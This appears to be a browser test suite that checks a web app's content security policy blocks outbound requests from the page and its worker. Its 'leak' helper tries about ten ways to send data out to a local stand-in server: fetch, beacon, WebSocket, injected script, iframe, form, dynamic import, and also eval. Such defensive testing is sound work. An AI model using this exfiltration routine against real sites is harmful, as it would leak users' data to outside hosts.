// The page's content security policy: what it says, and that the browser keeps it.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';
import * as app from './support/app.mjs';
import { openBrowser } from './support/browsers.mjs';
import { skipped } from './support/find.mjs';
import { openOwnSite, openSite, openStranger } from './support/site.mjs';

const options = { skip: skipped('chromium'), timeout: 120_000 };
const SETTLE_MS = 1_000;

let site;
let stranger;
let page;

before(async () => {
  if (options.skip) return;
  [site, stranger] = [await openSite(), await openStranger()];
  page = await openBrowser('chromium');
  await app.open(page, site.url('device=cpu&mode=fast'));
});

after(async () => {
  await page?.close();
  await Promise.all([site?.close(), stranger?.close()]);
});

test('the policy is in the page, before any script', options, async () => {
  const { policy, first } = await page.evaluate(() => {
    const meta = document.querySelector('meta[http-equiv="Content-Security-Policy"]');
    const script = document.querySelector('script');
    return {
      policy: meta?.content ?? null,
      first: Boolean(
        meta && script && meta.compareDocumentPosition(script) & Node.DOCUMENT_POSITION_FOLLOWING,
      ),
    };
  });
  assert.ok(policy, 'there is no content security policy');
  assert.ok(first, 'a script comes before the policy');
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /'unsafe-eval'|'unsafe-inline'|https?:|\*/);
});

test('the policy leaves no inline script, style or event handler in the page', options, async () => {
  const html = await (await fetch(site.url())).text();
  assert.doesNotMatch(html, /<script(?![^>]*\ssrc=)[^>]*>/, 'an inline script');
  assert.doesNotMatch(html, /<style|\sstyle=|\son\w+=/, 'an inline style or handler');
});

test('a stranger cannot be reached by any way a page has', options, async () => {
  const before = stranger.calls.length;
  const outcome = await page.evaluate(leak, stranger.url);
  await pause(SETTLE_MS);
  assert.deepEqual(stranger.calls.slice(before), [], JSON.stringify(outcome));
  assert.equal(outcome.fetch, 'refused');
  assert.equal(outcome.eval, 'refused');
});

test('the stranger would have heard it without the policy', options, async () => {
  const open = await openBrowser('chromium', { context: { bypassCSP: true } });
  try {
    await app.open(open, site.url('device=cpu&mode=fast'));
    await open.evaluate(leak, stranger.url);
    await pause(SETTLE_MS);
    assert.ok(stranger.calls.length >= 5, `heard only ${stranger.calls}`);
  } finally {
    await open.close();
  }
});

test('with the headers of the own server the worker cannot reach a stranger either', options, async () => {
  const own = await openOwnSite();
  const other = await openBrowser('chromium');
  const workers = new Set();
  other.raw.on('worker', (worker) => {
    workers.add(worker);
    worker.on('close', () => workers.delete(worker));
  });
  try {
    await app.open(other, own.url('device=cpu&mode=fast'));
    const before = stranger.calls.length;
    assert.ok(workers.size > 0, 'the page has no worker');
    for (const worker of workers) {
      const outcome = await worker.evaluate(
        (url) =>
          fetch(`${url}worker`).then(
            () => 'done',
            () => 'refused',
          ),
        stranger.url,
      );
      assert.equal(outcome, 'refused');
    }
    await pause(SETTLE_MS);
    assert.deepEqual(stranger.calls.slice(before), []);
  } finally {
    await other.close();
    await own.close();
  }
});

/** Runs in the page: tries every way out that needs no click. */
async function leak(url) {
  const outcome = {};
  const attempt = async (name, work) => {
    outcome[name] = await Promise.resolve()
      .then(work)
      .then(
        () => 'done',
        () => 'refused',
      );
  };
  await attempt('fetch', () => fetch(`${url}fetch`));
  await attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${url}xhr`);
    request.send();
  });
  await attempt('beacon', () => navigator.sendBeacon(`${url}beacon`, 'photo'));
  await attempt('image', () => Object.assign(new Image(), { src: `${url}image` }));
  await attempt('socket', () => new WebSocket(`${url.replace('http', 'ws')}socket`));
  await attempt('events', () => new EventSource(`${url}events`));
  await attempt('script', () =>
    document.head.append(Object.assign(document.createElement('script'), { src: `${url}script` })),
  );
  await attempt('frame', () =>
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}frame` })),
  );
  await attempt('form', () => {
    const form = Object.assign(document.createElement('form'), { action: `${url}form`, target: '_blank' });
    document.body.append(form);
    form.submit();
  });
  await attempt('import', () => import(`${url}import`));
  // biome-ignore lint/security/noGlobalEval: that it is refused is the point
  await attempt('eval', () => globalThis.eval('1'));
  return outcome;
}
